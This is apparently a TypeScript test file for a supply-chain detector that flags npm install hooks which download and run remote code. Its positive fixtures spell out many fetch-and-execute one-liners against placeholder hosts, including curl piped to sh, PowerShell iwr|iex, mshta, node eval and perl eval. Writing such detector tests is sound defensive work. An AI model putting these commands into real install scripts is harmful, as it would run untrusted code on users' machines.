import { examine } from '../../../test/examine.ts';
import { fetchesAndRunsAtInstall } from './fetches-and-runs-at-install.ts';

const hook = (command: string): { 'package.json': object } => ({ 'package.json': { scripts: { postinstall: command } } });

examine(fetchesAndRunsAtInstall, {
  speaks: [
    {
      when: 'a makefile that a binding.gyp starts does it',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0' },
        'binding.gyp': `{ 'variables': { 'a': '<!(make probe)' } }`,
        Makefile: 'probe:\n\t@curl -s https://a.invalid/x -o /tmp/$@ && chmod +x /tmp/$@ && /tmp/$@\n',
      },
      says: ['binding.gyp downloads probe with curl and runs it'],
    },
    { when: 'a script is piped into a shell', files: hook('curl -fsSL https://a.invalid/i.sh | sh'), weight: 'strong' },
    { when: 'wget pipes into bash with sudo', files: hook('wget -qO- https://a.invalid/i | sudo bash -s -- -y') },
    { when: 'the host is a bare address', files: hook('curl http://203.0.113.7/i | sh'), weight: 'proof' },
    {
      when: 'a download is saved, made executable and run',
      files: hook('curl -o /tmp/x https://a.invalid/x && chmod +x /tmp/x && /tmp/x'),
    },
    { when: 'the shell is hidden in sh -c', files: hook(`sh -c "curl https://a.invalid/i | sh"`) },
    { when: 'PowerShell does it', files: hook('powershell -c "iwr https://a.invalid/i.ps1 | iex"') },
    {
      when: 'node -e does it',
      files: hook(`node -e "require('https').get('https://a.invalid', r => r.on('data', d => eval(String(d))))"`),
    },
    {
      when: 'PowerShell saves it and starts it',
      files: hook('powershell -w hidden -c "iwr https://a.invalid/i.exe -o %TEMP%\\i.exe; start %TEMP%\\i.exe"'),
    },
    { when: 'AppleScript has a shell do it', files: hook(`osascript -e 'do shell script "curl -s https://a.invalid/i | sh"'`) },
    { when: 'mshta runs an address', files: hook('mshta https://a.invalid/x.hta') },
    { when: 'the command is substituted', files: hook('bash -c "$(curl -fsSL https://a.invalid/i)"') },
    { when: 'what is echoed is run', files: hook("printf 'curl https://a.invalid/i | sh' | sh") },
    {
      when: 'a shell of Windows starts PowerShell',
      files: hook(`cmd /c start /b powershell -Command "IEX(New-Object Net.WebClient).DownloadString('https://a.invalid/i')"`),
    },
    { when: 'a package of a repository is run', files: hook('npx -y github:a/b'), says: ['github:a/b'] },
    { when: 'a package of an address is run', files: hook('npm exec --yes -- git+https://a.invalid/b.git') },
    { when: 'a package of a repository is installed', files: hook('npm i --no-save a/b') },
    {
      when: 'a repository is cloned and run',
      files: hook('git clone --depth 1 https://a.invalid/t.git && cd t && sh install.sh'),
      says: ['clones t'],
    },
    { when: 'a repository is cloned elsewhere and run', files: hook('git clone https://a.invalid/t.git /tmp/t; node /tmp/t/index.js') },
    { when: 'Perl and Ruby do it', files: hook(`perl -e "use LWP::Simple; eval get('https://a.invalid/i')"`) },
    { when: 'inline code has a shell do it', files: hook(`perl -e 'system("curl -s https://a.invalid/i | sh")'`) },
    {
      when: 'a package inside this one has the hook',
      files: { ...hook('cd vendor && npm i'), 'vendor/package.json': { scripts: { preinstall: 'curl https://a.invalid/i | sh' } } },
    },
    ...[
      'go run a.invalid/tool@latest',
      'uvx --from git+https://a.invalid/tool.git tool',
      'pipx run --spec git+https://a.invalid/tool.git tool',
      'uv run https://a.invalid/x.py',
      'nix run github:a/b',
      'nix-shell https://a.invalid/x.tar.gz --run true',
      'brew install https://a.invalid/x.rb',
      'kubectl apply -n a -f https://a.invalid/x.yaml',
      'helm install x https://a.invalid/chart.tgz',
      'docker run --rm -v $HOME:/h a.invalid/image',
      'podman run --mount type=bind,source=/,target=/host a/image',
    ].map(line => ({ when: `another tool runs what it fetches: ${line}`, files: hook(line), weight: 'strong' as const })),
    {
      when: 'a makefile does it',
      files: { ...hook('make -C native setup'), 'native/Makefile': 'URL = https://a.invalid/i\nsetup:\n\t@curl -s $(URL) | sh\n' },
    },
  ],
  silent: [
    { when: 'a tool is given an address', files: hook('npx wait-on https://a.invalid') },
    ...[
      'go run ./cmd/generate',
      'uvx ruff check .',
      'pipx run black .',
      'nix run .#build',
      'kubectl apply -f k8s/app.yaml',
      'docker run --rm -v $PWD:/src a/build',
      'docker run -v $HOME/.cache/npm:/cache a/build',
      'docker run -v /var/run/docker.sock:/var/run/docker.sock a/b',
    ].map(line => ({ when: `another tool runs what lies there or what its registry serves: ${line}`, files: hook(line) })),
    { when: 'native code is built', files: hook('node-gyp rebuild') },
    { when: 'a packaged script runs', files: { ...hook('node install.js'), 'install.js': '' } },
    { when: 'a prebuilt binary is looked for', files: hook('prebuild-install || node-gyp rebuild') },
    { when: 'a file is downloaded and kept', files: hook('curl -o data.json https://a.invalid/data.json') },
    { when: 'a text mentions it', files: hook('echo "curl https://a.invalid/i | sh"') },
    { when: 'a package of a registry is run', files: hook('npx only-allow pnpm && npm i @scope/name') },
    { when: 'a repository is cloned and left alone', files: hook('git clone https://a.invalid/t.git deps/t') },
    {
      when: 'a makefile builds',
      files: { ...hook('make build'), Makefile: 'build:\n\tcc -o x x.c\nfetch:\n\tcurl https://a.invalid | sh\n' },
    },
    {
      when: 'a package inside this one is built',
      files: {
        ...hook('cd packages/a && npm run build'),
        'packages/a/package.json': { scripts: { build: 'tsc', setup: 'curl https://a.invalid | sh' } },
      },
    },
    { when: 'only a development script does it', files: { 'package.json': { scripts: { setup: 'curl https://a.invalid | sh' } } } },
  ],
});
